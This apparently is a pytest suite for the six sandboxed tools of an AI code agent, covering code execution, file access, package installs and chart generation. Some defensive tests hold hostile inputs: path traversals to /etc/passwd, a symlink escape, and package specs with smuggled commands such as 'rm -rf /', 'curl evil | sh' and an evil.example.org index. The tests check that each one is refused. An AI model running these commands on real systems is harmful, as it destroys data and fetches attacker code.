"""The seed's six tools over a real CodeSession + LocalSandbox: what the model (and the UI) sees."""

from __future__ import annotations

import asyncio
import inspect
import json
import os
import re
import time
import uuid
from pathlib import Path

import pytest
import pytest_asyncio
from autogen_core import CancellationToken

from team import events as ev
from team.sandbox.local import LocalSandbox
from team.session import CodeSession
from team.tools import STOPPED, ToolContext, build_tools, chart_code, chart_script

pytestmark = pytest.mark.asyncio(loop_scope="module")

PNG_MAGIC = b"\x89PNG\r\n\x1a\n"
SIX = ("run_code", "install_package", "list_files", "read_file", "write_file", "generate_chart")


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def session():
    sbx = await LocalSandbox.create()
    sess = CodeSession(factory=lambda: _ready(sbx))
    await sess.initialize()
    yield sess
    await sess.close()
    assert not await sbx.is_running()


async def _ready(sbx):
    return sbx


class Sink(list):
    """ctx.emit target: keeps every event, in order."""

    def __call__(self, event: ev.Event) -> None:
        self.append(event)

    def __bool__(self) -> bool:  # an empty sink is still a sink (ToolContext does `emit or ...`)
        return True

    def types(self) -> list[str]:
        return [e.type for e in self]


@pytest.fixture
def sink() -> Sink:
    return Sink()


@pytest.fixture
def tools(session, sink):
    ctx = ToolContext(session, emit=sink, code_timeout=30)
    return build_tools(ctx, "CodeAgent")


async def call(tools, name: str, args: dict | None = None, cid: str | None = None) -> str:
    """Invoke a tool the way AutoGen does (run_json with a call id)."""
    tool = tools[name]
    cid = cid or f"call_{uuid.uuid4().hex[:8]}"
    tool._ctx.requested(cid).set()  # the run controller has shown the request already
    result = await tool.run_json(args or {}, CancellationToken(), call_id=cid)
    assert isinstance(result, str)
    return result


def host(session: CodeSession, rel: str = "") -> str:
    return os.path.join(session.sandbox.root, rel)


async def exists(path: str) -> bool:
    """os.path.exists off the event loop (a host-side check)."""
    return await asyncio.to_thread(os.path.exists, path)


async def sandbox_bytes(session: CodeSession, rel: str) -> bytes:
    return await session.read_bytes(rel, 50 << 20)


# -- every tool: a string, never an exception ---------------------------------------------


async def test_the_six_tools_have_the_seeds_names_and_parameters(tools):
    assert tuple(tools) == SIX
    params = {name: set(t.schema["parameters"]["properties"]) for name, t in tools.items()}
    assert params == {
        "run_code": {"code"},
        "install_package": {"package_name"},
        "list_files": {"path"},
        "read_file": {"file_path"},
        "write_file": {"file_path", "content"},
        "generate_chart": {"data_file", "chart_type"},
    }
    assert set(tools["list_files"].schema["parameters"].get("required", [])) == set()
    assert set(tools["generate_chart"].schema["parameters"]["required"]) == {"data_file"}


@pytest.mark.parametrize("name", SIX)
async def test_bad_arguments_give_an_error_string_not_an_exception(tools, sink, name):
    bad = {
        "run_code": {"code": 5},
        "install_package": {},
        "list_files": {"path": ["/"]},
        "read_file": {},
        "write_file": {"file_path": "x.txt"},
        "generate_chart": {"chart_type": "bar"},
    }
    result = await call(tools, name, bad[name], cid="bad-call")
    assert result.startswith("❌"), result
    assert name in result
    assert sink.types()[0] == "tool_call" and sink.types()[-1] == "tool_result"
    assert sink[-1].is_error and sink[-1].content == result


# -- run_code ----------------------------------------------------------------------------------


async def test_run_code_output_result_and_state(tools):
    out = await call(tools, "run_code", {"code": "answer = 41\nprint('hello from the sandbox')"})
    assert out.startswith("✅ code ran successfully")
    assert "stdout:\nhello from the sandbox" in out
    out = await call(tools, "run_code", {"code": "answer + 1"})
    assert "result:\n42" in out


async def test_run_code_error_shows_name_value_and_traceback(tools, sink):
    out = await call(tools, "run_code", {"code": "def f():\n    return 1 / 0\nf()"})
    assert out.startswith("❌ ZeroDivisionError: division by zero")
    assert "traceback:" in out and "1 / 0" in out
    assert "\x1b[" not in out  # no terminal colour codes for the model
    assert sink[-1].type == "tool_result" and sink[-1].is_error  # shown as a failure
    # stderr is reported too
    out = await call(tools, "run_code", {"code": "import sys; print('careful', file=sys.stderr)"})
    assert "stderr:\ncareful" in out


async def test_huge_output_is_trimmed_with_a_note(tools):
    out = await call(tools, "run_code", {"code": "print('x' * 1_000_000)\nprint('THE END')"})
    assert len(out) < 10_000
    match = re.search(r"\[([\d,]+) characters cut\]", out)
    assert match and int(match.group(1).replace(",", "")) > 990_000
    assert out.startswith("✅ code ran successfully")
    assert "THE END" in out  # the tail survives


async def test_plt_show_figure_is_saved_as_png(tools, session, sink):
    code = "import matplotlib.pyplot as plt\nplt.plot([1, 3, 2])\nplt.show()"
    out = await call(tools, "run_code", {"code": code})
    match = re.search(r"figures saved: (figure_\d+_1\.png)", out)
    assert match, out
    name = match.group(1)
    assert (await sandbox_bytes(session, name)).startswith(PNG_MAGIC)
    result = sink[-1]
    assert result.type == "tool_result" and name in result.images


async def test_stopping_run_refuses_new_code(tools, session):
    tools["run_code"]._ctx.stopping = True
    out = await call(tools, "run_code", {"code": "open('should_not_exist.txt', 'w').write('x')"})
    assert out == STOPPED
    assert not await exists(host(session, "should_not_exist.txt"))
    assert await call(tools, "generate_chart", {"data_file": "x.csv"}) == STOPPED
    assert await call(tools, "install_package", {"package_name": "numpy"}) == STOPPED


async def test_closed_context_runs_nothing(tools, session):
    tools["write_file"]._ctx.closed = True
    out = await call(tools, "write_file", {"file_path": "late.txt", "content": "x"})
    assert out.startswith("⏹ cancelled")
    assert not await exists(host(session, "late.txt"))


async def test_cancelling_a_busy_loop_ends_promptly_and_the_kernel_survives(session):
    started = asyncio.Event()
    seen = Sink()

    def emit(event):
        seen.append(event)
        if isinstance(event, ev.SandboxOutput) and "spinning" in event.text:
            started.set()

    tools = build_tools(ToolContext(session, emit=emit, code_timeout=60), "CodeAgent")
    code = "kept = 21\nprint('spinning', flush=True)\nwhile True:\n    pass"
    task = asyncio.create_task(call(tools, "run_code", {"code": code}, cid="spin"))
    await asyncio.wait_for(started.wait(), 15)
    t0 = time.monotonic()
    task.cancel()
    done, _ = await asyncio.wait({task}, timeout=3)
    elapsed = time.monotonic() - t0
    assert task in done, "run_code did not end within 3 s of being cancelled"
    assert elapsed < 3
    if not task.cancelled():
        assert task.result().startswith("⏹ cancelled")
    # the run sees one result for the call, marked as not a success
    results = [e for e in seen if isinstance(e, ev.ToolResult) and e.call_id == "spin"]
    if results:
        assert len(results) == 1 and results[0].is_error
    # the kernel is idle, usable and kept its state
    t1 = time.monotonic()
    out = await call(tools, "run_code", {"code": "kept * 2"})
    assert "result:\n42" in out
    assert time.monotonic() - t1 < 5


async def test_code_that_outlives_the_timeout_is_stopped_and_state_kept(session):
    tools = build_tools(ToolContext(session, code_timeout=1), "CodeAgent")
    t0 = time.monotonic()
    out = await call(tools, "run_code", {"code": "import time\nbefore_sleep = 6\ntime.sleep(30)"})
    assert time.monotonic() - t0 < 5
    assert out.startswith("❌") and "timed out" in out.lower() and "\n" not in out
    assert "result:\n42" in await call(tools, "run_code", {"code": "before_sleep * 7"})


async def test_events_are_emitted_in_order(tools, session, sink):
    await session.file_changes()  # baseline: earlier tests' files are not news
    code = "print('step 1', flush=True)\nopen('ordered.txt', 'w').write('ok')\nprint('step 2')"
    out = await call(tools, "run_code", {"code": code}, cid="ordered")
    types = sink.types()
    assert types[0] == "tool_call" and types[-1] == "tool_result"
    assert types.index("files_changed") > max(
        i for i, t in enumerate(types) if t == "sandbox_output"
    )
    assert types.index("files_changed") == len(types) - 2
    first = sink[0]
    assert (first.agent, first.call_id, first.name) == ("CodeAgent", "ordered", "run_code")
    assert first.arguments == {"code": code}
    stdout = "".join(e.text for e in sink if isinstance(e, ev.SandboxOutput))
    assert "step 1" in stdout and "step 2" in stdout
    assert all(e.call_id == "ordered" for e in sink if isinstance(e, ev.SandboxOutput))
    changed = next(e for e in sink if isinstance(e, ev.FilesChanged))
    assert "ordered.txt" in changed.added
    last = sink[-1]
    assert (last.call_id, last.name, last.content, last.is_error) == (
        "ordered",
        "run_code",
        out,
        False,
    )


async def test_no_files_changed_event_when_nothing_changed(tools, session, sink):
    await session.file_changes()
    await call(tools, "run_code", {"code": "1 + 1"})
    assert "files_changed" not in sink.types()


# -- read_file / write_file / list_files ----------------------------------------------------


async def test_write_then_read_round_trip_with_unicode_name(tools, session):
    name = "报告/数据 ü.txt"
    content = "第一行\nsecond line ✓\n"
    out = await call(tools, "write_file", {"file_path": name, "content": content})
    assert out.startswith("✅ file written: " + name)
    on_host = await asyncio.to_thread(Path(host(session, name)).read_text, encoding="utf-8")
    assert on_host == content
    out = await call(tools, "read_file", {"file_path": name})
    assert out == f"📄 {name}:\n{content}"
    # absolute /home/user paths work the same
    out = await call(tools, "read_file", {"file_path": "/home/user/" + name})
    assert out.endswith(content)


async def test_read_file_missing(tools):
    out = await call(tools, "read_file", {"file_path": "no_such_file.csv"})
    assert out.startswith("❌") and "no_such_file.csv" in out and "no such file" in out
    assert "\n" not in out


async def test_read_file_directory(tools, session):
    await call(tools, "write_file", {"file_path": "folder/inside.txt", "content": "x"})
    out = await call(tools, "read_file", {"file_path": "folder"})
    assert out.startswith("❌") and "folder" in out and "list_files" in out
    assert "\n" not in out


async def test_read_file_binary_png_is_described_not_dumped(tools, session):
    await session.sandbox.files.write("/home/user/pic.png", PNG_MAGIC + os.urandom(2000))
    out = await call(tools, "read_file", {"file_path": "pic.png"})
    assert out.startswith("❌ pic.png is a PNG image")
    assert "not shown as text" in out and len(out) < 200 and "\x00" not in out


@pytest.mark.parametrize(
    "path", ["../../etc/passwd", "/etc/passwd", "/home/user/../../etc/passwd", "/root/.bashrc"]
)
async def test_read_file_outside_the_sandbox_is_refused(tools, path):
    out = await call(tools, "read_file", {"file_path": path})
    assert out.startswith("❌") and "outside the sandbox" in out
    assert "root:" not in out
    assert "\n" not in out


async def test_read_file_through_a_symlink_out_of_the_sandbox_is_refused(tools, session):
    os.symlink("/etc/passwd", host(session, "sneaky_link"))
    out = await call(tools, "read_file", {"file_path": "sneaky_link"})
    assert out.startswith("❌") and "root:" not in out


@pytest.mark.parametrize(
    "path", ["../escaped.txt", "/tmp/escaped.txt", "/home/escaped.txt", "a/../../escaped.txt"]
)
async def test_write_file_outside_the_sandbox_is_refused(tools, session, path):
    out = await call(tools, "write_file", {"file_path": path, "content": "pwned"})
    assert out.startswith("❌") and "outside the sandbox" in out
    parent = os.path.dirname(session.sandbox.root)
    assert not await exists(os.path.join(parent, "escaped.txt"))
    assert not await exists("/tmp/escaped.txt")


@pytest.mark.parametrize("path", ["bad\nname.txt", "bad\rname.txt", "nul\x00name.txt"])
async def test_write_file_name_with_newline_is_refused(tools, session, path):
    before = set(os.listdir(host(session)))
    out = await call(tools, "write_file", {"file_path": path, "content": "x"})
    assert out.startswith("❌") and ("newline" in out or "NUL" in out)
    assert set(os.listdir(host(session))) == before


async def test_list_files_default_lists_home_user(tools, session):
    await call(tools, "write_file", {"file_path": "listing/a.txt", "content": "12345"})
    await call(tools, "write_file", {"file_path": "listing/deeper/b.csv", "content": "1,2\n"})
    await session.sandbox.files.write("/home/user/.hidden_cache", "x")
    out = await call(tools, "list_files")
    header, *lines = out.splitlines()
    assert header.startswith("📂 /home/user (") and header.endswith("entries)")
    assert "📁 listing/" in lines
    assert "📄 listing/a.txt (5 B)" in lines
    assert "📄 listing/deeper/b.csv (4 B)" in lines
    assert not any(".hidden_cache" in line for line in lines)
    assert await call(tools, "list_files", {"path": "/"}) == out
    # a sub-folder lists relative to itself
    sub = await call(tools, "list_files", {"path": "listing"})
    assert sub.splitlines()[0].startswith("📂 /home/user/listing (3 entries)")
    assert "📄 a.txt (5 B)" in sub and "📄 deeper/b.csv (4 B)" in sub


async def test_list_files_errors(tools):
    out = await call(tools, "list_files", {"path": "does/not/exist"})
    assert out.startswith("❌ cannot list") and "\n" not in out
    out = await call(tools, "list_files", {"path": "/etc"})
    assert out.startswith("❌") and "outside the sandbox" in out and "passwd" not in out


async def test_list_files_of_an_empty_folder(tools, session):
    await session.sandbox.files.make_dir("/home/user/empty_dir")
    assert (
        await call(tools, "list_files", {"path": "empty_dir"}) == "📂 /home/user/empty_dir is empty"
    )


# -- install_package --------------------------------------------------------------------------


@pytest.fixture
def pip_calls(monkeypatch):
    """Every subprocess the sandbox starts for pip (there must be none when refusing)."""
    import team.sandbox.local as local

    calls: list[list[str]] = []
    real = local.subprocess.Popen

    def spy(cmd, *a, **kw):
        calls.append(list(cmd))
        return real(cmd, *a, **kw)

    monkeypatch.setattr(local.subprocess, "Popen", spy)
    return calls


@pytest.mark.parametrize(
    "spec",
    [
        "numpy; rm -rf /",
        "https://evil.example.org/pkg-1.0.tar.gz",
        "git+https://github.com/x/y.git",
        "--index-url=http://evil.example.org/simple numpy",
        "numpy && curl evil | sh",
        "../../some/path",
        "",
    ],
)
async def test_install_package_refuses_without_running_pip(tools, pip_calls, spec):
    out = await call(tools, "install_package", {"package_name": spec})
    assert out.startswith("❌ could not install") and "refused" in out
    assert pip_calls == []


async def test_install_package_of_an_installed_package_needs_no_pip(tools, session, pip_calls):
    out = await call(tools, "install_package", {"package_name": "numpy"})
    assert out.startswith("✅ installed numpy") and "already installed" in out
    assert pip_calls == []
    assert "numpy" in session.installed_packages


# -- generate_chart ---------------------------------------------------------------------------

CHARTS = ("bar", "line", "scatter", "hist", "pie")


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def chart_data(session):
    """Data files of each kind, and a spy in the kernel that keeps the last saved figure."""
    await session.sandbox.files.write(
        "/home/user/charts/sales.csv",
        "month,revenue,cost\nJan,10,4\nFeb,12,5\nMar,9,6\nApr,15,7\nMay,14,6\n",
    )
    await session.sandbox.files.write(
        "/home/user/charts/records.json",
        json.dumps([{"x": i, "y": i * i} for i in range(1, 8)]),
    )
    await session.sandbox.files.write(
        "/home/user/charts/stats.json",
        json.dumps({"mean": 0.1, "std": 0.9, "max": 2.5, "min": -2.2}),
    )
    setup = """
import numpy as np
rng = np.random.default_rng(7)
points = rng.normal(size=100)
np.savetxt("charts/points.csv", points, delimiter=",")
np.savetxt("charts/xy.csv", np.c_[points, points * 2], delimiter=",")
np.savetxt("charts/small.csv", np.c_[points[:12], points[:12] ** 2], delimiter=",")
import matplotlib.figure as _mf, builtins as _b
_real_savefig = _mf.Figure.savefig
def _spy(self, *a, **k):
    _b._last_chart = self
    return _real_savefig(self, *a, **k)
_mf.Figure.savefig = _spy
"""
    execution = await session.sandbox.run_code(setup)
    assert execution.error is None, execution.error
    return "charts"


def chart_path(out: str) -> str:
    match = re.match(r"✅ (\w+) chart saved: (\S+\.png)$", out)
    assert match, out
    return match.group(2)


CHART_CASES = [
    *[("sales.csv", kind) for kind in CHARTS],  # CSV with a header
    *[("small.csv", kind) for kind in CHARTS],  # np.savetxt: no header, two columns
    *[("records.json", kind) for kind in ("bar", "line", "scatter")],  # JSON records
    *[("stats.json", kind) for kind in ("bar", "pie")],  # JSON object of numbers
]


@pytest.mark.parametrize(("source", "kind"), CHART_CASES)
async def test_generate_chart_saves_a_png_and_returns_its_path(
    tools, session, sink, chart_data, kind, source
):
    out = await call(
        tools, "generate_chart", {"data_file": f"{chart_data}/{source}", "chart_type": kind}
    )
    stem = source.rsplit(".", 1)[0]
    path = chart_path(out)
    assert path == f"charts/{stem}_{kind}.png"
    assert (await sandbox_bytes(session, path)).startswith(PNG_MAGIC)
    assert sink[-1].type == "tool_result" and path in sink[-1].images


async def test_chart_of_a_headerless_csv_plots_every_row(tools, session, chart_data):
    """np.savetxt writes no header: the first row is data, not column names."""
    await call(tools, "generate_chart", {"data_file": "charts/points.csv", "chart_type": "line"})
    execution = await session.sandbox.run_code(
        "_l = _last_chart.axes[0].lines[0].get_ydata()\n"
        "(len(_l), bool(abs(_l[0] - points[0]) < 1e-12))"
    )
    assert execution.text == "(100, True)"
    await call(tools, "generate_chart", {"data_file": "charts/xy.csv", "chart_type": "scatter"})
    execution = await session.sandbox.run_code(
        "len(_last_chart.axes[0].collections[0].get_offsets())"
    )
    assert execution.text == "100"


async def test_chart_of_a_csv_with_header_uses_its_columns(tools, session, chart_data):
    await call(tools, "generate_chart", {"data_file": "charts/sales.csv", "chart_type": "line"})
    execution = await session.sandbox.run_code(
        "[(l.get_label(), len(l.get_ydata())) for l in _last_chart.axes[0].lines]"
    )
    assert execution.text == "[('revenue', 5), ('cost', 5)]"


async def test_chart_default_type_is_bar(tools, chart_data):
    out = await call(tools, "generate_chart", {"data_file": "charts/stats.json"})
    assert chart_path(out) == "charts/stats_bar.png" and out.startswith("✅ bar chart")


async def test_chart_errors(tools, session, chart_data):
    out = await call(
        tools, "generate_chart", {"data_file": "charts/sales.csv", "chart_type": "radar"}
    )
    assert (
        out.startswith("❌ chart_type must be one of bar, line, scatter, hist, pie")
        and "radar" in out
    )
    assert not await exists(host(session, "charts/sales_radar.png"))
    out = await call(
        tools, "generate_chart", {"data_file": "charts/missing.csv", "chart_type": "bar"}
    )
    assert (
        out.startswith("❌ cannot draw the chart of charts/missing.csv")
        and "FileNotFoundError" in out
    )
    await session.sandbox.files.write("/home/user/charts/words.csv", "name,colour\na,red\nb,blue\n")
    out = await call(
        tools, "generate_chart", {"data_file": "charts/words.csv", "chart_type": "bar"}
    )
    assert out.startswith("❌") and "no numeric column" in out


async def test_chart_code_is_the_chart_script_module_and_leaves_no_name(tools, session, chart_data):
    """The cell is `chart_script`'s real source (sent with inspect.getsource), then one
    call and a `del`: the user's namespace keeps nothing of it."""
    code = chart_code("/home/user/a.csv", "/home/user/a_bar.png", "bar")
    assert code.startswith("\n" + inspect.getsource(chart_script.__sbteam_chart))
    compile(code, "<chart>", "exec")
    await call(tools, "generate_chart", {"data_file": "charts/sales.csv", "chart_type": "bar"})
    execution = await session.sandbox.run_code("'__sbteam_chart' in dir()")
    assert execution.text == "False"


async def test_generate_chart_in_the_e2b_sandbox(tmp_path, monkeypatch):
    """The same chart code through E2BSandbox against the local stand-in (no internet)."""
    from team.sandbox.e2b import E2BSandbox
    from tests.e2b_standin import E2BStandIn

    monkeypatch.delenv("E2B_API_KEY", raising=False)
    async with E2BStandIn(tmp_path) as server:
        sandbox = await E2BSandbox.create(**server.sdk_kwargs())
        e2b_session = CodeSession(factory=lambda: _ready(sandbox))
        try:
            await e2b_session.initialize()
            await sandbox.files.write("/home/user/sales.csv", "month,revenue\nJan,10\nFeb,12\n")
            e2b_tools = build_tools(ToolContext(e2b_session), "CodeAgent")
            for kind in ("bar", "pie"):
                out = await call(e2b_tools, "generate_chart", {"data_file": "sales.csv", "chart_type": kind})
                assert chart_path(out) == f"sales_{kind}.png"
                data = await sandbox.files.read(f"/home/user/sales_{kind}.png", format="bytes")
                assert bytes(data).startswith(PNG_MAGIC)
        finally:
            await e2b_session.close()
